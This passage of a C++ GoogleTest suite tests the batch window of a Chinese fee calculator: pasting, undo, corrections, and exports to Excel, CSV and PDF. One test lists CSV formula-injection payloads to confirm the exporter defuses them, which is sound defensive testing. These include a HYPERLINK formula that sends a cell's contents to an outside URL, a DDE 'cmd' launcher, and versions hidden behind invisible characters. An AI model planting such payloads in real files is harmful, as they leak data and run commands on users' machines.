// The batch window through the real window: opened from its page, rows
// pasted from and copied back to the clipboard, cells edited, bad pastes
// refused, and the table written as .xlsx (read back with openpyxl) and CSV.

#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QMessageBox>
#include <QProcess>
#include <QPushButton>
#include <QTableView>
#include <QTemporaryDir>
#include <QTimer>

#include "calc/batch.h"
#include "calc/calculators.h"
#include "calc/number_text.h"
#include "calc/tender_fee.h"
#include "calc/yuan_amount.h"
#include "ui/batch/batch_model.h"
#include "ui/batch/batch_window.h"
#include "ui/batch/table_files.h"
#include "ui/batch/xlsx_reader.h"
#include "ui/documents/documents.h"
#include "ui/layout/control_table.h"
#include "ui/pdf_text.h"
#include "ui/window_driver.h"

namespace kelvora::testing {
namespace {

using ui::BatchWindow;

constexpr const char* kTenderRows =
    "标段\t中标金额\t服务类型\t单独提供编制招标文件服务\r\n"
    "一标段\t6000\t工程招标\t是\r\n"
    "二标段\t\"12,345.67\"\t服务招标\t\r\n"
    "三标段\t500\t货物\t否\r\n";

class BatchTest : public WindowTest {
protected:
    // The batch window of a page, opened with Ctrl+B and made the active window.
    BatchWindow* Open(int page)
    {
        ShowPage(page);
        window().activateWindow();
        EXPECT_TRUE(QTest::qWaitForWindowActive(&window()));
        const ControlName firsts[] = {role::kTenderAmount, role::kFeeBasis, role::kStartDate};
        Get(firsts[page])->setFocus();
        QTest::keyClick(Get(firsts[page]), Qt::Key_B, Qt::ControlModifier);
        for (auto* dialog : window().findChildren<QDialog*>(QStringLiteral("batchWindow"))) {
            auto* batch = static_cast<BatchWindow*>(dialog);
            if (batch->isVisible() && ui::PageOf(batch->calculator().frame) == page) {
                EXPECT_TRUE(QTest::qWaitForWindowActive(batch));
                View(batch)->setFocus();
                return batch;
            }
        }
        ADD_FAILURE() << "no batch window opened on page " << page;
        return nullptr;
    }

    QTableView* View(BatchWindow* batch) { return batch->findChild<QTableView*>(); }

    static QString Python(const QString& script, const QStringList& args)
    {
        QProcess python;
        // Debian's own Python, which python3-openpyxl installs into
        python.start(QStringLiteral("/usr/bin/python3"), QStringList{"-c", script} + args);
        if (!python.waitForFinished(60000) || python.exitCode() != 0) {
            ADD_FAILURE() << "python3 failed (Debian: python3-openpyxl): "
                          << python.readAllStandardError().toStdString();
        }
        return QString::fromUtf8(python.readAllStandardOutput());
    }
};

TEST_F(BatchTest, CtrlBAndEachPagesEntryOpenItsCalculatorsBatch)
{
    const struct {
        int page;
        ControlName entry;
        const char* calculator;
    } pages[] = {
        {0, role::kTenderBatch, "tender"},
        {1, role::kSupervisionBatch, "supervision"},
        {2, role::kPeriodBatch, "period"},
    };
    for (const auto& p : pages) {
        SCOPED_TRACE(p.calculator);
        SetUp();
        BatchWindow* opened = Open(p.page);
        ASSERT_NE(opened, nullptr);
        EXPECT_EQ(opened->calculator().id, p.calculator);
        opened->close();
        Click(p.entry);
        EXPECT_TRUE(opened->isVisible()) << "the entry opens the same window again";
        EXPECT_EQ(window().findChildren<QDialog*>(QStringLiteral("batchWindow")).size(), 1);
    }
}

TEST_F(BatchTest, RowsPastedFromTheClipboardComeBackAsCalculateRowsWritesThem)
{
    BatchWindow* batch = Open(0);
    ASSERT_NE(batch, nullptr);
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    QTest::keySequence(View(batch), QKeySequence::Paste);
    EXPECT_EQ(batch->model().rows().size(), 3u);
    QGuiApplication::clipboard()->clear();
    QTest::keySequence(View(batch), QKeySequence::Copy);
    EXPECT_EQ(QGuiApplication::clipboard()->text().toStdString(),
              CalculateRows("tender", kTenderRows));
    // the doubtful 二标段 is left out of the 合计, and the line says so
    const QString total = batch->findChild<QLabel*>(QStringLiteral("batchTotal"))->text();
    EXPECT_TRUE(total.contains("29.315 万元")) << total.toStdString();  // ¥293,150.00 ÷ 10,000
    EXPECT_TRUE(total.contains("1 行有疑问未计入合计：第 2 行")) << total.toStdString();
    EXPECT_TRUE(total.contains("1 行计算失败")) << total.toStdString();
    // the doubtful cell is marked as the page marks the box
    ui::BatchModel& model = batch->model();
    EXPECT_EQ(model.data(model.index(1, 1), Qt::ToolTipRole).toString(),
              "按 12 计算，“,345.67”未被读取");
    EXPECT_TRUE(model.data(model.index(1, 1), Qt::BackgroundRole).isValid());
}

// One value pasted onto chosen cells fills them, and a file read in place
// of the lots replaces them; each is one step to undo. Tab leaves the table,
// and every button's key is in its tooltip.
TEST_F(BatchTest, FillReplaceAndKeysAreOneStepEach)
{
    BatchWindow* batch = Open(0);
    ui::BatchModel& model = batch->model();
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    batch->Paste();
    const int steps = model.undoStack().index();
    QTableView* view = View(batch);
    // 服务类型 of the three lots at once
    view->selectionModel()->select(QItemSelection(model.index(0, 2), model.index(2, 2)),
                                   QItemSelectionModel::ClearAndSelect);
    QGuiApplication::clipboard()->setText("货物招标\n");
    batch->Paste();
    EXPECT_EQ(model.undoStack().index(), steps + 1);
    for (int row = 0; row < 3; ++row) {
        EXPECT_EQ(model.data(model.index(row, 2), Qt::DisplayRole).toString(), "货物招标");
    }
    model.undoStack().undo();
    EXPECT_EQ(model.data(model.index(2, 2), Qt::DisplayRole).toString(), "货物");

    QTemporaryDir folder;
    const QString csv = folder.filePath("lots.csv");
    QFile file(csv);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("四标段,8000,工程招标,否\n");
    file.close();
    ASSERT_EQ(batch->ReadFile(csv, BatchWindow::Adding::Replace), "");
    ASSERT_EQ(model.rows().size(), 1u);
    EXPECT_EQ(model.data(model.index(0, 0), Qt::DisplayRole).toString(), "四标段");
    model.undoStack().undo();
    EXPECT_EQ(model.rows().size(), 3u);
    ASSERT_EQ(batch->ReadFile(csv), "");
    EXPECT_EQ(model.rows().size(), 4u);

    EXPECT_FALSE(view->tabKeyNavigation());
    for (const char* button : {"全部更正", "导出 Excel…", "导出 CSV…", "清空", "导出计算书…"}) {
        bool found = false;
        for (auto* each : batch->findChildren<QPushButton*>()) {
            if (each->text() == QString::fromUtf8(button)) {
                found = true;
                EXPECT_TRUE(each->toolTip().startsWith("Ctrl+")) << button;
            }
        }
        EXPECT_TRUE(found) << button;
    }
    model.MarkExported();
}

// A file too large is refused before it is read, whatever it holds.
TEST_F(BatchTest, AFileTooLargeIsRefusedUnread)
{
    BatchWindow* batch = Open(0);
    QTemporaryDir folder;
    for (const auto& [name, head] :
         {std::pair{"lots.csv", "标段,中标金额\n"}, std::pair{"lots.xlsx", "PK\x03\x04"}}) {
        QFile file(folder.filePath(name));
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(head);
        ASSERT_TRUE(file.resize(ui::XlsxWorkbook::kMaxFileBytes + 1));  // sparse: nothing written
        file.close();
        const QString said = batch->ReadFile(file.fileName());
        EXPECT_TRUE(said.contains("超过可读取的 200 MB")) << said.toStdString();
        EXPECT_TRUE(batch->model().rows().empty());
    }
}

TEST_F(BatchTest, AnEditedCellIsWorkedOutAgainAndTheTotalFollows)
{
    BatchWindow* batch = Open(1);
    ui::BatchModel& model = batch->model();
    const QStringList typed = {"A", "35000", "1.2", "较复杂", "1", "-10"};
    for (int column = 0; column < typed.size(); ++column) {
        ASSERT_TRUE(model.setData(model.index(0, column), typed[column], Qt::EditRole));
    }
    EXPECT_EQ(model.rowCount(), 2);  // the lot and a new empty row
    EXPECT_EQ(model.data(model.index(0, 8), Qt::DisplayRole).toString(), "679.86");
    model.setData(model.index(0, 5), "-20", Qt::EditRole);
    EXPECT_EQ(model.data(model.index(0, 8), Qt::DisplayRole).toString(), "604.32");
    EXPECT_TRUE(batch->findChild<QLabel*>(QStringLiteral("batchTotal"))->text().contains("604.32"));
    model.setData(model.index(0, 3), "很复杂", Qt::EditRole);
    EXPECT_EQ(model.data(model.index(0, 8), Qt::DisplayRole).toString(), "");
    EXPECT_TRUE(model.data(model.index(0, 11), Qt::DisplayRole)
                    .toString()
                    .startsWith("请选择工程复杂程度"));
}

TEST_F(BatchTest, PastesThatAreTooLongOrNoTableChangeNothing)
{
    BatchWindow* batch = Open(0);
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    batch->Paste();
    ASSERT_EQ(batch->model().rows().size(), 3u);
    QString tooLong;
    tooLong.reserve(2'000'000);
    for (std::size_t i = 0; i <= ui::BatchModel::kMaxRows; ++i) {
        tooLong += QStringLiteral("L\t1\n");
    }
    for (const QString& text : {tooLong, QStringLiteral("just a sentence\nand another")}) {
        QGuiApplication::clipboard()->setText(text);
        const auto report = WithReport([&] { batch->Paste(); });
        ASSERT_TRUE(report.has_value());
        EXPECT_TRUE(report->text.contains("未作改动")) << report->text.toStdString();
        EXPECT_EQ(batch->model().rows().size(), 3u);
    }
}

// Every change is one step back with Ctrl+Z and forward with Ctrl+Y: a
// paste, a cell typed, a correction, 全部更正, 清空.
TEST_F(BatchTest, EveryChangeCanBeUndoneAndDoneAgain)
{
    BatchWindow* batch = Open(0);
    ui::BatchModel& model = batch->model();
    const auto text = [&](int row, int column) {
        return model.data(model.index(row, column), Qt::DisplayRole).toString();
    };
    const auto keys = [&](QKeySequence::StandardKey key) {
        QTest::keySequence(View(batch), key);
        QApplication::processEvents();
    };
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    keys(QKeySequence::Paste);
    ASSERT_EQ(model.rows().size(), 3u);
    const struct {
        const char* what;
        std::function<void()> change;
        std::function<QString()> shown;  // what the change alters
    } changes[] = {
        {"a cell typed", [&] { model.setData(model.index(0, 1), "7000", Qt::EditRole); },
         [&] { return text(0, 1) + "/" + text(0, 4); }},
        {"a correction", [&] { model.Correct(1, 1); },
         [&] { return text(1, 1) + "/" + text(1, 4); }},
        {"全部更正", [&] { batch->CorrectAll(); }, [&] { return text(1, 1); }},
        {"清空", [&] { model.Clear(); }, [&] { return QString::number(model.rows().size()); }},
        {"a paste", [&] { keys(QKeySequence::Paste); },
         [&] { return QString::number(model.rows().size()); }},
    };
    for (const auto& c : changes) {
        SCOPED_TRACE(c.what);
        const QString before = c.shown();
        c.change();
        const QString after = c.shown();
        ASSERT_NE(after, before);
        QTest::keyClick(View(batch), Qt::Key_Z, Qt::ControlModifier);
        EXPECT_EQ(c.shown(), before);
        QTest::keyClick(View(batch), Qt::Key_Y, Qt::ControlModifier);
        EXPECT_EQ(c.shown(), after);
        QTest::keyClick(View(batch), Qt::Key_Z, Qt::ControlModifier);
    }
}

// A marked cell's menu and 全部更正 offer the evident corrections: thousands
// separators, an amount in yuan; the 合计 takes the lot in once corrected.
TEST_F(BatchTest, CorrectionsBringDoubtfulLotsIntoTheTotal)
{
    BatchWindow* batch = Open(0);
    ui::BatchModel& model = batch->model();
    QGuiApplication::clipboard()->setText(
        "A\t12,800\t工程招标\t否\nB\t60000000\t工程招标\t否\nC\t¥5,000,000\t工程招标\t否\n");
    batch->Paste();
    EXPECT_EQ(model.Total().doubtful.size(), 3u);
    EXPECT_EQ(model.Corrections(), 3);
    batch->CorrectAll();
    EXPECT_EQ(model.data(model.index(0, 1), Qt::DisplayRole).toString(), "12800");
    EXPECT_EQ(model.data(model.index(1, 1), Qt::DisplayRole).toString(), "6000");
    EXPECT_EQ(model.data(model.index(2, 1), Qt::DisplayRole).toString(), "500");
    const BatchTotal total = model.Total();
    EXPECT_TRUE(total.doubtful.empty());
    EXPECT_EQ(total.sums.back(), "58.3");  // 31.95 + 22.55 + 3.80
}

// Ctrl+V pastes wherever the focus is in the window, a button's too.
// After a paste the window grows to show every column, 说明 too, as far as
// its screen has room; it never shrinks below the size it had.
TEST_F(BatchTest, APasteShowsEveryColumnWhereTheScreenHasRoom)
{
    BatchWindow* batch = Open(1);
    ASSERT_NE(batch, nullptr);
    const int before = batch->width();
    QGuiApplication::clipboard()->setText(
        QString::fromUtf8("标段\t计费额\t专业调整系数\t工程复杂程度\t高程调整系数\t浮动幅度值\n"
                          "一\t12,800\t1\t一般\t1\t0\n"));
    batch->Paste();
    QTableView* view = View(batch);
    const int last = batch->model().columnCount() - 1;
    const int room = batch->screen()->availableGeometry().width();
    EXPECT_GE(batch->width(), before);
    EXPECT_TRUE(view->columnViewportPosition(last) + view->columnWidth(last) <=
                    view->viewport()->width() ||
                batch->frameGeometry().width() >= room - 1)
        << batch->width() << " of " << room;
}

TEST_F(BatchTest, CtrlVPastesWhereverTheFocusIs)
{
    BatchWindow* batch = Open(0);
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    for (auto* button : batch->findChildren<QPushButton*>()) {
        if (button->text() == "清空") {
            QTest::mouseClick(button, Qt::LeftButton);  // as after 清空
            QTest::keySequence(button, QKeySequence::Paste);
        }
    }
    EXPECT_EQ(batch->model().rows().size(), 3u);
}

// Closing the batch window, or the main window, with lots not exported asks
// first: 取消 keeps them, 放弃 lets them go.
TEST_F(BatchTest, LotsNotExportedAreAskedAboutBeforeClosing)
{
    BatchWindow* batch = Open(0);
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    batch->Paste();
    const auto answer = [&](const char* choice, const std::function<void()>& close) {
        QString asked;
        QTimer poll;
        poll.setInterval(10);
        QObject::connect(&poll, &QTimer::timeout, &poll, [&] {
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            if (box != nullptr && box->objectName() == "closeGuard") {
                asked = box->text();
                for (QAbstractButton* button : box->buttons()) {
                    if (button->text() == QString::fromUtf8(choice)) {
                        button->click();
                    }
                }
            }
        });
        poll.start();
        close();
        poll.stop();
        return asked;
    };
    EXPECT_TRUE(answer("取消", [&] { batch->close(); }).contains("还没有导出"));
    EXPECT_TRUE(batch->isVisible());
    answer("取消", [&] { window().close(); });
    EXPECT_TRUE(window().isVisible());
    answer("放弃", [&] { batch->close(); });
    EXPECT_FALSE(batch->isVisible());
}

// 打开… reads a CSV the batch wrote, a tab-separated file, UTF-8 with a
// byte-order mark or without, GB18030; a file that is not text changes nothing.
TEST_F(BatchTest, OpenReadsTheFilesSpreadsheetsWrite)
{
    BatchWindow* batch = Open(0);
    QTemporaryDir folder;
    const QString table = QString::fromUtf8("标段,中标金额,服务类型\n一标段,6000,工程招标\n");
    const struct {
        const char* name;
        QByteArray bytes;
        std::size_t rows;  // in the batch after reading it
    } files[] = {
        {"bom.csv", "\xEF\xBB\xBF" + table.toUtf8(), 1},
        {"plain.csv", table.toUtf8(), 2},
        {"tabs.txt", QString(table).replace(',', '\t').toUtf8(), 3},
        // the same table in GB18030, as a Chinese spreadsheet program writes it
        {"gb18030.csv",
         "\xB1\xEA\xB6\xCE,\xD6\xD0\xB1\xEA\xBD\xF0\xB6\xEE,\xB7\xFE\xCE\xF1\xC0\xE0\xD0\xCD\n"
         "\xD2\xBB\xB1\xEA\xB6\xCE,6000,\xB9\xA4\xB3\xCC\xD5\xD0\xB1\xEA\n",
         4},
        {"picture.png", QByteArray("\x89PNG\r\n\x1A\n\0\0\0\rIHDR", 16), 4},
    };
    for (const auto& file : files) {
        SCOPED_TRACE(file.name);
        QFile out(folder.filePath(file.name));
        ASSERT_TRUE(out.open(QIODevice::WriteOnly));
        out.write(file.bytes);
        out.close();
        const QString problem = batch->ReadFile(out.fileName());
        EXPECT_EQ(problem.isEmpty(), file.rows != 4 || std::string(file.name) != "picture.png")
            << problem.toStdString();
        EXPECT_EQ(batch->model().rows().size(), file.rows);
    }
    EXPECT_EQ(batch->model().data(batch->model().index(3, 0), Qt::DisplayRole).toString(),
              "一标段");
}

// An amount past the double range (309 digits and more) is a marked cell like
// 1e400, pasted, opened or brought back by undo; nothing ends the program.
TEST_F(BatchTest, AnAmountPastTheDoubleRangeIsAMarkedCell)
{
    BatchWindow* batch = Open(0);
    ui::BatchModel& model = batch->model();
    const QString nines(310, QLatin1Char('9'));
    QGuiApplication::clipboard()->setText("第1标段\t" + nines + "\t工程招标\r\n");
    QTest::keySequence(View(batch), QKeySequence::Paste);
    QTemporaryDir folder;
    QFile file(folder.filePath("long.csv"));
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(("第2标段," + nines + ",工程招标\n").toUtf8());
    file.close();
    EXPECT_EQ(batch->ReadFile(file.fileName()), QString());
    QTest::keyClick(View(batch), Qt::Key_Z, Qt::ControlModifier);
    QTest::keyClick(View(batch), Qt::Key_Y, Qt::ControlModifier);
    ASSERT_EQ(model.rows().size(), 2u);
    for (const BatchRow& row : model.rows()) {
        EXPECT_NE(row.state, RowState::Counted);
        ASSERT_FALSE(row.marks().empty());
        EXPECT_EQ(row.marks().front().note.text, "数值超出范围，计算时将报告溢出");
    }
    EXPECT_EQ(model.Corrections(), 2);
}

// Files read back with Python's openpyxl and csv and with pdftotext, or
// written under a limit on file sizes.
class BatchSystemTest : public BatchTest {};

TEST_F(BatchSystemTest, TheTableReadsBackFromExcelAndCsv)
{
    KELVORA_READ_BACK_ON_LINUX("Python with openpyxl");
    QTemporaryDir folder;
    const Lots lots = LotsOf(TenderFeeCalculator(), kTenderRows);
    const QString xlsx = folder.filePath("lots.xlsx");
    ASSERT_EQ(ui::WriteXlsx(xlsx, lots.columns, lots.rows), "");
    const QString read = Python(QStringLiteral(R"(
import sys, openpyxl
sheet = openpyxl.load_workbook(sys.argv[1]).active
for row in sheet.iter_rows():
    print("|".join("" if c.value is None else (type(c.value).__name__ + ":" + str(c.value)) for c in row))
print("bold", sheet["A1"].font.b, sheet["E2"].number_format, sheet["F2"].number_format,
      sheet.column_dimensions["G"].width > 20)
)"),
                                {xlsx});
    const QStringList lines = read.split('\n', Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 6);
    EXPECT_TRUE(lines[0].startsWith("str:标段|str:中标金额"));
    // amounts given and 小写 are numbers a spreadsheet can add up; words are text
    EXPECT_EQ(lines[1],
              "str:一标段|int:6000|str:工程招标|str:是|float:29.315|int:293150|str:"
              "人民币贰拾玖万叁仟壹佰伍拾元整|");
    EXPECT_TRUE(lines[2].startsWith("str:二标段|str:12,345.67|")) << lines[2].toStdString();
    EXPECT_TRUE(lines[3].startsWith("str:三标段|int:500|str:货物|str:否|||"));
    EXPECT_TRUE(lines[4].startsWith("str:合计|||"));
    EXPECT_TRUE(lines[4].contains("float:29.315|int:293150|")) << lines[4].toStdString();
    EXPECT_EQ(lines[5], "bold True General ¥#,##0.00 True");

    const QString csv = folder.filePath("lots.csv");
    ASSERT_EQ(ui::WriteCsv(csv, lots.columns, lots.rows), "");
    QFile file(csv);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBF"));
    const QString rows = Python(QStringLiteral(R"(
import csv, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in csv.reader(f):
        print("|".join(row))
)"),
                                {csv});
    const QStringList csvLines = rows.split('\n', Qt::SkipEmptyParts);
    ASSERT_EQ(csvLines.size(), 5);
    EXPECT_EQ(csvLines[2],
              "二标段|12,345.67|服务招标|||||"
              "中标金额：按 12 计算，“,345.67”未被读取");
}

// Each figure column as the window exports it, read back by openpyxl: a
// number, the fee in 万元 to its 分 (as its 小写), the others as shown.
TEST_F(BatchSystemTest, FigureColumnsAreNumbersWithTheirDecimals)
{
    KELVORA_READ_BACK_ON_LINUX("Python with openpyxl");
    const struct {
        const char* calculator;
        const char* rows;
        const char* cells;   // the first lot's figure cells, as openpyxl reads them
        const char* format;  // their number format
    } cases[] = {
        {"tender", "一\t6000\t工程招标\t否\n二\t5\t工程招标\t否\n", "22.55", "General"},
        {"supervision", "A\t35000\t1.2\t较复杂\t1\t0\n", "629.5 755.4 755.4", "General"},
        {"period", "B\t2009/2/6\t2010/2/6\n", "365", "General"},
    };
    QTemporaryDir folder;
    for (const auto& c : cases) {
        SCOPED_TRACE(c.calculator);
        const Lots lots = LotsOf(*CalculatorById(c.calculator), c.rows);
        const QString path = folder.filePath(QString::fromUtf8(c.calculator) + ".xlsx");
        ASSERT_EQ(ui::WriteXlsx(path, lots.columns, lots.rows), "");
        const QString read = Python(QStringLiteral(R"(
import sys, openpyxl
sheet = openpyxl.load_workbook(sys.argv[1]).active
# the results: the columns headed in 万元 or in days
cells = [c for c, head in zip(sheet[2], sheet[1]) if "（万元）" in head.value or "日历天" in head.value]
print(" ".join(str(c.value) for c in cells) + "|" + " ".join(sorted({c.number_format for c in cells})))
)"),
                                    {path});
        EXPECT_EQ(read.trimmed(), QString::fromUtf8(c.cells) + "|" + c.format);
    }
}

// A CSV cell that would start a formula in a spreadsheet program gets an
// apostrophe before it; the figures the program wrote stay as they are.
TEST_F(BatchSystemTest, ACsvNeverRunsWhatWasPasted)
{
    KELVORA_READ_BACK_ON_LINUX("Python");
    const char* const attacks[] = {
        "=HYPERLINK(\"http://example.org/\"&A1,\"点击\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "＝1+1",
        "\t=1+1",
        " =1+1",
        // what is blank or invisible before a formula: a byte-order mark (two
        // BOM'd files joined), zero-width spaces, a word joiner, VT, FF, NBSP
        "\xEF\xBB\xBF=HYPERLINK(\"http://example.org/\"&A3;\"点此查看\")",
        "\xE2\x80\x8B=1+1",
        "\xE2\x80\x8D+1",
        "\xE2\x81\xA0@SUM(1)",
        "\x0B=1+1",
        "\x0C-1+1",
        "\xC2\xA0\xE3\x80\x80=1+1",
    };
    std::string rows;
    for (const char* attack : attacks) {
        rows += FormatTable({{attack, "-50", "工程招标", "否"}});
    }
    const Lots lots = LotsOf(TenderFeeCalculator(), rows);
    QTemporaryDir folder;
    const QString csv = folder.filePath("attacks.csv");
    ASSERT_EQ(ui::WriteCsv(csv, lots.columns, lots.rows), "");
    const QStringList read = Python(QStringLiteral(R"(
import csv, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in list(csv.reader(f))[1:-1]:
        print(repr(row[0]) + "|" + row[1] + "|" + row[4])
)"),
                                    {csv})
                                 .split('\n', Qt::SkipEmptyParts);
    ASSERT_EQ(read.size(), static_cast<qsizetype>(std::size(attacks)));
    for (qsizetype i = 0; i < read.size(); ++i) {
        SCOPED_TRACE(attacks[i]);
        EXPECT_TRUE(read[i].startsWith("\"'") || read[i].startsWith("'\\'"))
            << read[i].toStdString();
        EXPECT_TRUE(read[i].endsWith("|'-50|-0.5"))
            << read[i].toStdString();  // the fee as written, to its 分
    }
}

TEST_F(BatchSystemTest, AnExportThatCannotBeWrittenKeepsTheOldFile)
{
    KELVORA_POSIX_ONLY("a nearly full disk is a per-process file size limit");
    QTemporaryDir folder;
    const Lots lots = LotsOf(TenderFeeCalculator(), kTenderRows);
    for (const bool excel : {true, false}) {
        SCOPED_TRACE(excel);
        const QString path = folder.filePath(excel ? "old.xlsx" : "old.csv");
        QFile old(path);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("the file from before");
        old.close();
        const QString message = OnANearlyFullDisk(64, [&] {
            return excel ? ui::WriteXlsx(path, lots.columns, lots.rows)
                         : ui::WriteCsv(path, lots.columns, lots.rows);
        });
        EXPECT_TRUE(message.startsWith("无法写入文件")) << message.toStdString();
        ASSERT_TRUE(old.open(QIODevice::ReadOnly));
        EXPECT_EQ(old.readAll(), "the file from before");
        old.close();
        EXPECT_EQ(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).size(), excel ? 1 : 2);
    }
}

// Without the module of exports and printing the .xlsx is not written, and
// the message names the module's file; a CSV needs no module.
TEST_F(BatchTest, AnExportWithoutItsModuleSaysWhichFileAndWritesNothing)
{
    QTemporaryDir folder;
    const QString missing = folder.filePath("no-such-module");
    qputenv("KELVORA_OUTPUT_MODULE", missing.toLocal8Bit());
    const Lots lots = LotsOf(TenderFeeCalculator(), kTenderRows);
    const QString xlsx = folder.filePath("lots.xlsx");
    const QString message = ui::WriteXlsx(xlsx, lots.columns, lots.rows);
    qunsetenv("KELVORA_OUTPUT_MODULE");
    EXPECT_TRUE(message.startsWith("无法载入导出与打印模块")) << message.toStdString();
    EXPECT_TRUE(message.contains(QDir::toNativeSeparators(missing))) << message.toStdString();
    EXPECT_FALSE(QFile::exists(xlsx));
    EXPECT_EQ(ui::WriteCsv(folder.filePath("lots.csv"), lots.columns, lots.rows), "");
}

// What a format cannot hold is refused, naming the first such cell, and a
// writer stopped half-way leaves nothing; in each case the old file stays.
TEST_F(BatchTest, AnExportThatWouldLoseDataOrIsStoppedKeepsTheOldFile)
{
    const Lots lots = LotsOf(TenderFeeCalculator(), kTenderRows);
    const auto withLot = [&](std::string name) {
        std::vector<BatchRow> rows = lots.rows;
        rows[1].given = rows[1].given.With(0, name);
        return rows;
    };
    std::vector<BatchRow> many = lots.rows;  // long enough to be asked about its progress
    many.insert(many.begin(), 2500, lots.rows[0]);
    std::string chinese;
    for (std::size_t i = 0; i < 32767; ++i) {
        chinese += "标";  // at the limit in characters, three times over it in bytes
    }
    const struct {
        const char* name;
        bool excel;
        std::vector<BatchRow> table;
        std::size_t stopAt;   // rows written before the progress says stop; 0: never
        const char* message;  // the start of what is said; "" saved
    } cases[] = {
        {"a cell past Excel's characters", true, withLot(std::string(32768, 'x')), 0,
         "第 2 行“标段”列的单元格有 32768 个字符，超过 Excel 单元格的上限 32767 个"},
        {"a cell at the limit in characters", true, withLot(chinese), 0, ""},
        {"a NUL in a cell", true, withLot(std::string("二标\0段", 9)), 0,
         "第 2 行“标段”列的单元格含有空字符（NUL），Excel 无法保存"},
        // what XML cannot hold: never a broken file said to be exported
        {"U+FFFF in a cell", true, withLot("二标\xEF\xBF\xBF段"), 0,
         "第 2 行“标段”列的单元格含有 Excel 无法保存的字符 U+FFFF"},
        {"U+FFFE in a cell", true, withLot("\xEF\xBF\xBE"), 0, "字符 U+FFFE"},
        {"a control character in a cell", true, withLot("二\x01标段"), 0, "字符 U+0001"},
        {"tab, LF and CR are kept", true, withLot("二\t标\r\n段"), 0, ""},
        {"U+FFFF in a CSV is text", false, withLot("二标\xEF\xBF\xBF段"), 0, ""},
        {"the workbook stopped", true, many, 2000, "stopped"},
        {"the CSV stopped", false, many, 2000, "stopped"},
        {"a long cell in a CSV", false, withLot(std::string(40000, 'x')), 0, ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        QTemporaryDir folder;
        const QString path = folder.filePath(c.excel ? "lots.xlsx" : "lots.csv");
        QFile old(path);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("the file from before");
        old.close();
        const ui::Progress progress = [&](std::size_t done, std::size_t) {
            return c.stopAt == 0 || done < c.stopAt;
        };
        const QString message = c.excel ? ui::WriteXlsx(path, lots.columns, c.table, progress)
                                        : ui::WriteCsv(path, lots.columns, c.table, progress);
        const std::string expected = c.message;
        if (expected == "stopped") {
            EXPECT_EQ(message, ui::StoppedWriting());
        } else if (expected.empty()) {
            EXPECT_TRUE(message.isEmpty()) << message.toStdString();
        } else {
            EXPECT_TRUE(message.contains(QString::fromStdString(expected)))
                << message.toStdString();
        }
        ASSERT_TRUE(old.open(QIODevice::ReadOnly));
        EXPECT_EQ(old.readAll() == "the file from before", !expected.empty());
        old.close();
        EXPECT_EQ(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).size(), 1);
    }
}

TEST_F(BatchSystemTest, TheBatchSheetHoldsEveryRowTheTotalAndItsCapitals)
{
    KELVORA_READ_BACK_ON_LINUX("pdftotext");
    BatchWindow* batch = Open(0);
    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
    batch->Paste();
    QTemporaryDir folder;
    const QString path = folder.filePath("lots.pdf");
    ui::SheetHeader header;
    header.project = "城南污水处理厂";
    header.preparedBy = "张三";
    ASSERT_EQ(batch->WriteSheet(path, header), "");
    const QString text = PdfText(path);
    for (const char* piece :
         {"招标代理服务费计算书（多标段）", "项目名称：城南污水处理厂", "一标段", "二标段",
          "三标段", "请选择服务类型", "合计", "29.315", "人民币贰拾玖万叁仟壹佰伍拾元整",
          "1行有疑问未计入合计：第2行；1行计算失败，未计入合计", "编制人：张三", "第1页共1页"}) {
        EXPECT_TRUE(text.contains(QString::fromUtf8(piece))) << piece;
    }
}

// A batch sheet of many pages: the column head on each page, a cell too long
// for a page cut with a mark, markup shown as typed, figures whole.
TEST_F(BatchSystemTest, ALongBatchSheetRepeatsItsHeadAndShowsPastedTextAsText)
{
    KELVORA_READ_BACK_ON_LINUX("pdftotext");
    BatchWindow* batch = Open(0);
    std::string rows = "标段\t中标金额\t服务类型\r\n";
    for (int lot = 1; lot <= 80; ++lot) {
        const std::string name = lot == 5   ? "<b>粗体</b>&amp;"
                                 : lot == 6 ? [] {
                                       std::string name;
                                       for (int i = 0; i < 1000; ++i) {
                                           name += "长";
                                       }
                                       return name;
                                   }()
                                            : "第" + std::to_string(lot) + "标段";
        rows += name + "\t" + std::to_string(100000 + lot) + ".37\t工程招标\r\n";
    }
    QGuiApplication::clipboard()->setText(QString::fromStdString(rows));
    batch->Paste();
    QTemporaryDir folder;
    const QString path = folder.filePath("lots.pdf");
    ASSERT_EQ(batch->WriteSheet(path, ui::SheetHeader{}), "");
    const auto page = [&](int number) { return PdfText(path, number); };
    const QString first = page(1);
    const QString second = page(2);
    const QString pages = first + second + page(3);
    EXPECT_TRUE(first.contains("<b>粗体</b>&amp;")) << first.toStdString();
    EXPECT_TRUE(pages.contains("……（此单元格共1000字，以下从略）")) << pages.toStdString();
    EXPECT_FALSE(pages.contains(QString(401, QChar(u'长'))));
    EXPECT_TRUE(second.contains("标段中标金额")) << second.toStdString();
    EXPECT_TRUE(second.contains("第2页")) << second.toStdString();
    // a lot's fee in one piece, wherever its page
    EXPECT_TRUE(PdfText(path).contains(QString::fromStdString(YuanFigures(
